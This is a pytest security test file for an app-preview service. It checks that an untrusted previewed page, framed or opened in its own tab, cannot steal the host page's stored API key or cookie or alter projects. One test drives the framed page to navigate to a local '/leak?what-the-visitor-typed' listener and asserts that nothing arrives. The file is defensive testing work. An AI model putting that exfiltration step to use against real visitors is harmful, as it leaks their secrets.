"""A previewed app that tries to steal: from inside the page's frame, and opened in a tab of its own."""

import base64
import io
import json
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

SANDBOX = "allow-scripts allow-forms allow-modals allow-popups allow-downloads"
CARD = "---\ntitle: Friendly\nsdk: static\n---\n"
KEY = "sk-the-visitors-own-key"


@pytest.fixture(scope="module")
def preview_path(server) -> str:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", (Path(__file__).parent / "hostile.html").read_text())
        archive.writestr("README.md", CARD)
    project = server.action("project_import", data=base64.b64encode(buffer.getvalue()).decode(), title="Friendly").json()
    return server.action("preview_start", project=project["id"]).json()["path"]


@pytest.fixture
def host(server, page):
    """The real page, with a session and a key in its storage."""
    page.goto(server.url)
    page.evaluate("fetch('/api/session', {method: 'POST'})")
    page.evaluate(f"localStorage.setItem('provider-key', {KEY!r}); document.cookie = 'own=cookie-of-the-page'")
    return page


def place_frame(host, path: str, sandbox: str | None):
    """Put a frame into the page; returns what is inside it."""
    host.evaluate(
        """([path, sandbox]) => {
            const frame = document.createElement('iframe');
            if (sandbox) frame.setAttribute('sandbox', sandbox);
            frame.src = path; frame.name = 'hostile';
            document.body.append(frame);
        }""",
        [path, sandbox],
    )
    return host.wait_for_selector("iframe[name=hostile]").content_frame()


def outcome_of(frame) -> dict:
    frame.wait_for_selector("#outcome", timeout=30_000, state="attached")
    return json.loads(frame.text_content("#outcome"))


def assert_harmless(outcome: dict) -> None:
    assert outcome.pop("origin") == "null"
    # A blind no-cors request resolves as "opaque" whatever happens to it; the gate's answer is tested by its effect.
    blind = outcome.pop("blind write")
    assert blind.startswith(("refused", "GOT opaque"))
    assert len([name for name in outcome if name.endswith(", natively")]) == 6
    got = {name: result for name, result in outcome.items() if result.startswith("GOT")}
    assert got == {}
    assert KEY not in json.dumps(outcome) and "cookie-of-the-page" not in json.dumps(outcome)


@pytest.mark.parametrize("sandbox", [SANDBOX, None], ids=["the page's frame", "a frame that forgot its sandbox"])
def test_from_inside_a_frame_it_reaches_nothing(host, server, preview_path, sandbox):
    projects = server.action("project_list").json()["meta"]["count"]
    outcome = outcome_of(place_frame(host, preview_path, sandbox))
    assert_harmless(outcome)
    assert host.url.startswith(server.url) and host.evaluate("localStorage.getItem('provider-key')") == KEY
    assert server.action("project_list").json()["meta"]["count"] == projects


def test_its_frame_cannot_carry_data_to_another_place(host, preview_path):
    seen = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *said):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as elsewhere:
        threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
        frame = place_frame(host, preview_path, SANDBOX)
        outcome_of(frame)
        address = f"http://127.0.0.1:{elsewhere.server_port}/leak?what-the-visitor-typed"
        frame.evaluate(f"void (location.href = {address!r})")
        host.wait_for_timeout(1500)
        elsewhere.shutdown()
    assert seen == []


def test_in_a_tab_of_its_own_it_reaches_nothing(host, server, preview_path):
    tab = host.context.new_page()
    tab.goto(server.url + preview_path)
    assert_harmless(outcome_of(tab))


def test_after_it_is_stopped_its_address_is_nobodys(server, page):
    made = server.action("generate_app_code", idea="a word counter", template="static-page").json()["project"]["id"]
    live = server.action("preview_start", project=made).json()
    assert page.goto(live["url"]).status == 200
    server.action("preview_stop", preview=live["id"])
    assert page.goto(live["url"]).status == 404
